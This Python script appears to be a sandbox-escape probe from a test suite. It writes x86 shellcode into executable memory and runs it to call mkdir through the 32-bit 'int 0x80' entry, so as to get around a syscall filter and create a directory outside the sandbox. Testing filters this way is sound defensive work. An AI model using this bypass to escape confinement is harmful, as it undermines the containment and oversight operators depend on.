# PROBE int80-mkdir: make a directory outside by the 32-bit entry that a filter may not know
import os

exec(open(os.path.dirname(os.path.abspath(__file__)) + "/_lib.py").read())
import mmap

if not X86:
    done(False, "not this architecture")
low = libc.mmap
low.restype, low.argtypes = (
    ctypes.c_void_p,
    [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long],
)
page = low(None, 4096, 7, 0x62, -1, 0)  # private, anonymous, below 4 GiB
path = (OUT + "/by32").encode() + b"\0"
ctypes.memmove(page + 2048, path, len(path))
code = (
    b"\x53\xb8"
    + (39).to_bytes(4, "little")
    + b"\xbb"
    + (page + 2048).to_bytes(4, "little")
    + b"\xb9"
    + (0o700).to_bytes(4, "little")
    + b"\xcd\x80\x5b\xc3"
)
ctypes.memmove(page, code, len(code))
print("RESULT BLOCKED", flush=True)  # what counts is what the host sees afterwards
ctypes.CFUNCTYPE(ctypes.c_int)(page)()
